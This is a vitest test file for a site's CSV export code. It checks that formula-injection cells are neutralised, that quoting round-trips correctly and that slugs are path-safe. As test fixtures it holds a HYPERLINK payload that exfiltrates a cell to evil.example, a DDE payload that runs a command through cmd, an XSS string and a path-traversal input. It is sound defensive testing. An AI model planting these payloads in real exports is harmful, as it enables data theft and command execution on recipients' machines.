import { describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from '../../site/src/lib/csv.ts';
import { slug } from '../../site/src/lib/slug.ts';
import { NASTY_NAME } from './helpers.ts';

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks and reads back to the same cells', () => {
    const table = { columns: ['Name', 'Value'], rows: [[NASTY_NAME, '1,240 h'], ['two\nlines', '-0.5'], ['', '']] };
    const text = toCsv(table);
    expect(text.split('\r\n')[1]).toBe('"<script>alert(1)</script> & ""Co""","1,240 h"');
    expect(parseCsv(text)).toEqual([table.columns, ...table.rows]);
  });

  it('keeps a spreadsheet from running a cell as a formula, but leaves negative numbers alone', () => {
    const text = toCsv({ columns: ['a', 'b', 'c'], rows: [['=HYPERLINK("x")', '-12', '@SUM(A1)']] });
    expect(parseCsv(text)[1]).toEqual(["'=HYPERLINK(\"x\")", '-12', "'@SUM(A1)"]);
  });

  it('prefixes the formulas that start like a negative number (the review\'s two payloads)', () => {
    const link = '-2+HYPERLINK("https://evil.example/?"&B2,"Details")';
    const dde = "-1+cmd|' /C calc'!A0";
    const text = toCsv({ columns: ['Project', 'PM'], rows: [[link, dde]] });
    expect(parseCsv(text)[1]).toEqual([`'${link}`, `'${dde}`]);
  });
});

describe('neutraliseCell', () => {
  // [cell, what a spreadsheet must receive]
  const cases: [string, string][] = [
    // plain numbers: untouched, so the figures still sum
    ['-12', '-12'],
    ['-0.5', '-0.5'],
    ['-1e5', '-1e5'],
    ['-2.5E-3', '-2.5E-3'],
    ['-12%', '-12%'],
    [' -3 ', ' -3 '],
    ['42', '42'],
    // formulas that start like a number, or with a sign or an at
    ['-1+1', "'-1+1"],
    ['-1e5+1', "'-1e5+1"],
    ['-12%+A1', "'-12%+A1"],
    ['-', "'-"],
    ['--1', "'--1"],
    ['-A1', "'-A1"],
    ['+12', "'+12"],
    ['+A1*2', "'+A1*2"],
    ['=1+1', "'=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    // behind leading spaces
    ['  =HYPERLINK("x")', '\'  =HYPERLINK("x")'],
    [' -2+A1', "' -2+A1"],
    ['\u00a0=1', "'\u00a0=1"],
    // control characters that spreadsheets skip before a formula
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['\tplain', "'\tplain"],
    // full-width signs, which spreadsheet apps normalise to = + - @
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\uff0b1', "'\uff0b1"],
    ['\uff0d1+1', "'\uff0d1+1"],
    ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
    ['\u3000\uff1d1', "'\u3000\uff1d1"],
    // ordinary text: untouched
    ['Ada Lovelace', 'Ada Lovelace'],
    ['1,240 h', '1,240 h'],
    ['a=b', 'a=b'],
    ['\u22125', '\u22125'],
    ['', ''],
  ];

  it.each(cases)('%j becomes %j', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it('writes each case so that a CSV reader gets the neutralised cell back', () => {
    const text = toCsv({ columns: ['cell'], rows: cases.map(([cell]) => [cell]) });
    expect(parseCsv(text, { relax_quotes: true }).slice(1).map((row: string[]) => row[0])).toEqual(cases.map(([, expected]) => expected));
  });
});

describe('slug', () => {
  it('keeps safe ids and turns others into distinct path-safe slugs', () => {
    expect(slug('pm-ada')).toBe('pm-ada');
    const a = slug('jira:acct:5b10');
    const b = slug('jira/acct/5b10');
    expect(a).toMatch(/^[a-z0-9-]+$/);
    expect(a).not.toBe(b);
    expect(slug('../..')).toMatch(/^[a-z0-9]+$/);
  });
});
